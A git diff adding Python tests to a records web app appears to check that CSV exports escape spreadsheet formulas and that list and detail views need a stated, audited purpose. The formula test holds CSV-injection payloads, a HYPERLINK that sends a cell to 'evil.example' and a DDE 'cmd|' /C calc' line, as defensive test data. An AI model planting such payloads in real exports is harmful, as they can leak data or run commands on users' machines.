@@ -3,7 +3,10 @@ export, decisions, explanations, lists, admin and audit pages."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
+from pathlib import Path
 
 import pytest
 
@@ -11,7 +14,7 @@ from toex.ops.audit import AuditQuery, search_entries
 from toex.ops.db import OpsStore
 from toex.ops.models import MatchDecision
 
-from .conftest import TestClient, Users, session_for
+from .conftest import TestClient, Users, make_app, session_for
 
 M1, M2, M3 = "mention-000001", "mention-000002", "mention-000003"
 
@@ -150,6 +153,32 @@ def test_export_csv_is_marked_and_audited(
     assert entry.detail["rows"] == 3 and entry.purpose == "export test"
 
 
+def test_export_csv_neutralises_formulas(
+    store: OpsStore, users: Users, mini_assessed_warehouse: Path
+) -> None:
+    """Record values a spreadsheet would run (``=``, ``+``, ``-``, ``@``) are written as
+    text, with a leading quote; nothing else in the file changes."""
+    users.org("regional", ["cambs", "essex", "norfolk"], "regional")
+    uid = users.user("ann", "analyst", "regional")
+    with TestClient(make_app(store, mini_assessed_warehouse), follow_redirects=False) as c:
+        token = session_for(c, uid)
+        c.post("/purpose", data={"csrf_token": token, "purpose": "export test"})
+        r = c.get("/person/V3/export.csv")
+    lines = r.text.splitlines()
+    rows = {row["mention_id"]: row for row in csv.DictReader(io.StringIO("\n".join(lines[1:-1])))}
+    assert (
+        rows["mention-000011"]["address_raw"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    )
+    assert rows["mention-000011"]["email"] == "'@evil.example"
+    assert rows["mention-000012"]["address_raw"] == "'-2+3+cmd|' /C calc'!A0"
+    assert rows["mention-000012"]["cro_number"] == "'+1-1"
+    assert rows["mention-000012"]["forename"] == "ROSE"
+    assert lines[0] == lines[-1] == "OFFICIAL-SENSITIVE"
+    for line in lines:
+        for cell in next(csv.reader([line])):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
 def test_network_page_and_expand(client: TestClient, analyst: str) -> None:
     _search(client, analyst, purpose="network test", name="smith")
     page = client.get("/network/P1").text
@@ -229,7 +258,38 @@ def test_suggestions_only_name_visible_records(client: TestClient, users: Users)
     assert client.get("/search/suggest?name=bil").text.strip() == ""
 
 
+def test_lists_expand_and_explain_need_a_stated_purpose(
+    client: TestClient, analyst: str, store: OpsStore
+) -> None:
+    """Like a profile, the lists ask for a purpose first; the fragments (network expansion,
+    match explanation) answer 403 without one; once stated, each view is audited with it."""
+    for path in ("/perpetrators?force=cambs", "/crossforce"):
+        r = client.get(path)
+        assert r.status_code == 200 and "State your purpose" in r.text, path
+        assert f'name="next" value="{path}"' in r.text, path
+    for path in ("/network/P1/expand", f"/person/P1/explain?a={M1}&b={M2}"):
+        r = client.get(path, headers={"HX-Request": "true"})
+        assert r.status_code == 403, path
+        assert "state a purpose (run a search) before" in r.text, path
+    assert search_entries(store, AuditQuery(action="view")) == []
+    assert search_entries(store, AuditQuery(action="network")) == []
+    client.post("/purpose", data={"csrf_token": analyst, "purpose": "weekly tasking"})
+    for path in (
+        "/perpetrators",
+        "/crossforce",
+        "/network/P1/expand",
+        f"/person/P1/explain?a={M1}&b={M2}",
+    ):
+        assert client.get(path).status_code == 200, path
+    entries = [
+        *search_entries(store, AuditQuery(action="view")),
+        *search_entries(store, AuditQuery(action="network")),
+    ]
+    assert len(entries) == 4 and {e.purpose for e in entries} == {"weekly tasking"}
+
+
 def test_lists_degrade_when_stages_are_missing(client: TestClient, analyst: str) -> None:
+    client.post("/purpose", data={"csrf_token": analyst, "purpose": "weekly tasking"})
     html = client.get("/perpetrators").text
     assert "not available in this snapshot (assess_perpetrator_priority is not available" in html
     html = client.get("/crossforce").text
